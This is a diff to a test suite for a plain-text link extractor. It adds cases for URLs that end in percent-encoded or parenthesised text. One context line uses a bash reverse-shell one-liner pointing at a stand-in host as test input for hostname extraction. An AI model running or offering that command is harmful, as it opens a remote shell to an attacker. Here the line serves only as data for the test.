@@ -448,6 +448,16 @@ describe("links in a plain text", () => {
     ["see https://a.example/x\\xa0y", "https://a.example/x\\xa0y", "https://a.example/x"],
     ["①a-b.example ②b-c.example/x", "①a-b.example", "a-b.example", "②b-c.example/x", "b-c.example/x"],
     ["now a-b.com(fake) and f(x).id", "a-b.com"],
+    ...["(fake)", "%20", "%22", "%22%3E", "%3C/a%3E", "%E3%80%82"].map((end): [string, string, string] => [
+      `See https://a.example/x${end} now`,
+      `https://a.example/x${end}`,
+      "https://a.example/x"
+    ]),
+    [
+      "see https://a.example/?q=%22b%22 and https://b.example/a%20b",
+      "https://a.example/?q=%22b%22",
+      "https://b.example/a%20b"
+    ],
     ["bash -i >& /dev/tcp/a-b.example/443 0>&1, not /dev/tcp/$HOST/80", "a-b.example"],
     ["(^|\\.)a-b\\.example$ (\\.|^)b-c\\.example$ 1.5.3.4$", "a-b\\.example", "b-c\\.example"],
     ["bad(닷)example.com or bad [점] com/x", "bad(닷)example.com", "bad[점]com/x"],
